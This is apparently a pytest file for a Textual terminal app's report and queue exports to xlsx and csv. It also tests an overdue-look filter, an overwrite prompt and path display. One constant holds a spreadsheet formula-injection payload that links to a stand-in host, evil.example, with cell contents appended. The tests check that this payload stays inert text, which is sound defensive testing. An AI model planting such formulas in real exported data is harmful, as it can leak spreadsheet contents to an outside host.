"""The desk's exports and overdue looks (issue 35 item 3), driven with Textual's Pilot on
the real SQLite fixture project: ``e`` in Raporlar writes the report shown, ``e`` in the
queue the cases it lists (with its filters), to the .xlsx or .csv file typed into the
export form; the palette finds both by "export" and "report"; the queue's risk filter
"overdue" keeps the pending cases whose 24h PMO look is overdue, the very cases Raporlar
counts. Files are read back with openpyxl and the csv module; a client title that reads
as a formula stays text in both. Nothing waits on time (tests/test_tui_pilot.py)."""

from __future__ import annotations

import csv
from datetime import timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook
from textual.command import CommandInput, CommandPalette

from etki.domain import Request, Risk
from etki_tui.queue.filters import QueueFilter
from etki_tui.queue.pane import QueuePane
from etki_tui.raporlar.pane import ReportsPane
from etki_tui.screens.export import ExportForm, OverwriteConfirm
from tests.conftest import TuiWorld, tui_clock, tui_decision
from tests.test_tui_pilot import (
    Recorder,
    fill,
    make_app,
    press,
    queue_ids,
    settle,
    shown,
    sync,
    until,
)

FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
LATE = "req-demo-aa000001"  # asks for the look, waited two days: overdue
FRESH = "req-demo-aa000002"  # asks for the look, waited an hour: not yet
CALM = "req-demo-aa000003"  # waited two days, no look asked


def _add_cases(world: TuiWorld) -> None:
    """Three pending cases with known ages at the frozen clock (their submitted_at)."""
    now = tui_clock()
    look = Risk("high", ("security",), True)

    def at(delta: timedelta) -> str:
        return (now - delta).isoformat().replace("+00:00", "Z")

    world.repo.add_cases(
        world.project_id,
        [
            (
                Request("X1", "Give the export a link.", FORMULA, "ayşe", at(timedelta(days=2))),
                tui_decision(LATE, "IN_SCOPE", ("MSA-2024-01#9.1",), confidence=0.9, risk=look),
            ),
            (
                Request(
                    "X2", "Fresh one.", "Fresh security question", "jörg", at(timedelta(hours=1))
                ),
                tui_decision(FRESH, "IN_SCOPE", ("MSA-2024-01#9.1",), confidence=0.9, risk=look),
            ),
            (
                Request("X3", "Old calm one.", "Old calm request", "ı", at(timedelta(days=2))),
                tui_decision(CALM, "IN_SCOPE", ("MSA-2024-01#9.1",), confidence=0.9),
            ),
        ],
    )


async def _export(pilot, path: Path) -> None:  # noqa: ANN001
    """Press ``e``, type ``path`` into the form, press Enter, wait for the file's toast."""
    await press(pilot, "e")
    assert isinstance(pilot.app.screen, ExportForm)
    await fill(pilot, "#export-path", str(path))
    await press(pilot, "enter")
    await until(pilot, lambda: not isinstance(pilot.app.screen, ExportForm), "the form to close")
    await settle(pilot)


@sync
async def test_e_in_raporlar_writes_the_report_shown_as_xlsx(
    tui_world: TuiWorld, tmp_path: Path
) -> None:
    _add_cases(tui_world)
    seen = Recorder()
    app = make_app(tui_world)
    target = tmp_path / "out" / "rapor.xlsx"
    async with app.run_test(size=(80, 24), message_hook=seen) as pilot:
        await settle(pilot)
        await press(pilot, "3")
        pane = app.query_one(ReportsPane)
        await until(pilot, lambda: pane.report is not None, "the report")
        assert pane.report is not None
        late = [o.case_id for o in pane.report.overdue_looks]
        assert LATE in late and FRESH not in late and CALM not in late
        assert "Looks overdue" in shown(pane.query_one("#report-body"), 80, 60)
        await press(pilot, "e")
        form = app.screen
        assert isinstance(form, ExportForm)
        assert form.default == f"etki-report-{tui_world.project_id}-2026-11-29.xlsx"
        await press(pilot, "escape")  # nothing written
        assert not isinstance(app.screen, ExportForm)
        await _export(pilot, target)
        assert f"Report written to {target}" in seen.notes()
    book = load_workbook(target)
    totals = {r[0]: r[1] for r in book["totals"].iter_rows(min_row=3, values_only=True)}
    assert totals["overdue_looks"] == len(late)
    overdue = list(book["overdue_looks"].iter_rows(min_row=3, values_only=True))
    assert [r[0] for r in overdue] == late
    [row] = [r for r in overdue if r[0] == LATE]
    assert row[1] == FORMULA  # the title as the client wrote it: text, never a formula
    for cells in book["overdue_looks"].iter_rows(min_row=3):
        assert cells[1].data_type == "s" and cells[1].quotePrefix


@sync
async def test_e_in_the_queue_writes_the_listed_cases_as_csv(
    tui_world: TuiWorld, tmp_path: Path
) -> None:
    _add_cases(tui_world)
    seen = Recorder()
    app = make_app(tui_world)
    target = tmp_path / "kuyruk.csv"
    async with app.run_test(size=(80, 24), message_hook=seen) as pilot:
        await settle(pilot)
        pane = app.query_one(QueuePane)
        pane.set_filter(QueueFilter(text="9.1"))  # the cases citing 9.1
        await settle(pilot)
        listed = queue_ids(app)
        assert LATE in listed and len(listed) < len(pane.cases)
        await _export(pilot, target)
        assert f"{len(listed)} cases written to {target}" in seen.notes()
        bad = tmp_path / "kuyruk.txt"  # the form refuses a name it cannot write
        await press(pilot, "e")
        await fill(pilot, "#export-path", str(bad))
        await press(pilot, "enter")
        assert isinstance(app.screen, ExportForm) and not bad.exists()
        await press(pilot, "escape")
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    assert rows[0][:4] == ["case_id", "project_id", "request_id", "title"]
    assert [r[0] for r in rows[1:]] == listed
    [late] = [r for r in rows[1:] if r[0] == LATE]
    assert late[3] == "'" + FORMULA and late[4] == "ayşe"


@sync
async def test_an_unwritable_path_says_why_and_writes_nothing(
    tui_world: TuiWorld, tmp_path: Path
) -> None:
    seen = Recorder()
    app = make_app(tui_world)
    blocker = tmp_path / "a-file"
    blocker.write_text("in the way\n")
    async with app.run_test(size=(80, 24), message_hook=seen) as pilot:
        await settle(pilot)
        await _export(pilot, blocker / "kuyruk.xlsx")
        await until(pilot, lambda: any("not written" in n for n in seen.notes()), "the error")
    assert blocker.read_text() == "in the way\n"


@sync
async def test_an_existing_file_is_replaced_only_when_the_reviewer_says_so(
    tui_world: TuiWorld, tmp_path: Path
) -> None:
    """A trial: the desk's export overwrote an existing file without asking. Now a
    dialog asks, starting on "Keep it": Enter, n and Esc keep the file, y replaces it."""
    seen = Recorder()
    app = make_app(tui_world)
    target = tmp_path / "kuyruk ß.csv"
    target.write_text("Ayşe'nin dosyası\n", encoding="utf-8")
    async with app.run_test(size=(80, 24), message_hook=seen) as pilot:
        await settle(pilot)
        status = app.status_line
        assert status is not None
        for keep in ("enter", "n", "escape"):
            await _export(pilot, target)
            assert isinstance(app.screen, OverwriteConfirm)
            question = "".join(shown(app.screen.query_one("#overwrite-question")).split())
            assert "".join(f"{target} exists. Replace it with this export?".split()) in question
            await press(pilot, keep)
            assert not isinstance(app.screen, OverwriteConfirm), keep
            assert target.read_text(encoding="utf-8") == "Ayşe'nin dosyası\n"
            # said on the status line as a passing message (a trial was left with none)
            await until(
                pilot, lambda: status.said.startswith("Not exported"), f"the word on {keep}"
            )
            assert status.entries[-1][3] == f"Kept the existing file {target}"
            assert status.entries[-1][1] == "information"
            status.say("", "")  # the next answer says it again
        assert not any("written to" in n for n in seen.notes())
        await _export(pilot, target)
        await press(pilot, "y")
        await until(pilot, lambda: any("written to" in n for n in seen.notes()), "the toast")
    rows = list(csv.reader(target.read_text(encoding="utf-8-sig").splitlines()))
    assert rows[0][0] == "case_id"  # the export replaced the file
    fresh = tmp_path / "new.csv"  # a new file is written without a question
    app = make_app(tui_world)
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot)
        await _export(pilot, fresh)
        assert not isinstance(app.screen, OverwriteConfirm)
        await until(pilot, fresh.exists, "the file")


@sync
async def test_the_palette_finds_both_exports(tui_world: TuiWorld) -> None:
    app = make_app(tui_world)
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot)
        for query, wanted in (
            ("export", {"Export queue…", "Export report…"}),
            ("report", {"Export report…"}),
        ):
            await press(pilot, "ctrl+p")
            assert CommandPalette.is_open(app)
            app.screen.query_one(CommandInput).value = query
            await settle(pilot)
            hits = shown(app.screen.query_one("CommandList"), 80, 20)
            assert all(w in hits for w in wanted), hits
            await press(pilot, "escape")
        await press(pilot, "ctrl+p")
        app.screen.query_one(CommandInput).value = "export report"
        await settle(pilot)
        await press(pilot, "enter")
        assert isinstance(app.screen, ExportForm)
        assert "etki-report-" in app.screen.default


@sync
async def test_the_overdue_filter_keeps_the_cases_raporlar_counts(tui_world: TuiWorld) -> None:
    _add_cases(tui_world)
    expected = [
        o.case_id
        for o in tui_world.desk.report(tui_world.project_id, now=tui_clock()).overdue_looks
    ]
    assert LATE in expected and FRESH not in expected and CALM not in expected
    app = make_app(tui_world)
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot)
        pane = app.query_one(QueuePane)
        pane.set_filter(pane.filter.with_(risk="overdue"))
        await settle(pilot)
        assert sorted(queue_ids(app)) == sorted(expected)
        assert "24h look overdue" in " ".join(pane.filter.describe())


@sync
async def test_the_export_form_names_the_folder_it_writes_to(
    tui_world: TuiWorld, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A trial saw only the bare file name: the form says the whole path, the home
    folder shortened to ``~``, as the reviewer types."""
    home = tmp_path / "ev"
    monkeypatch.setenv("HOME", str(home))
    app = make_app(tui_world)
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot)
        await press(pilot, "e")
        form = app.screen
        assert isinstance(form, ExportForm)
        where = form.query_one("#export-where")
        first = f"Writes to: {Path.cwd() / form.default}"
        if str(Path.cwd()).startswith(str(home)):  # pragma: no cover - cwd is not the tmp home
            first = "Writes to: ~" + first.split(str(home), 1)[1]
        assert str(where.render()).strip() == first
        await fill(pilot, "#export-path", str(home / "Raporlar ş" / "r.xlsx"))
        await until(
            pilot,
            lambda: str(where.render()).strip() == "Writes to: ~/Raporlar ş/r.xlsx",
            "the typed path under the home folder",
        )
        await fill(pilot, "#export-path", "~/q.csv")
        await until(pilot, lambda: str(where.render()).strip() == "Writes to: ~/q.csv", "~ typed")
        outside = tmp_path / "dış" / "q.csv"
        await fill(pilot, "#export-path", str(outside))
        await until(
            pilot, lambda: str(where.render()).strip() == f"Writes to: {outside}", "outside"
        )
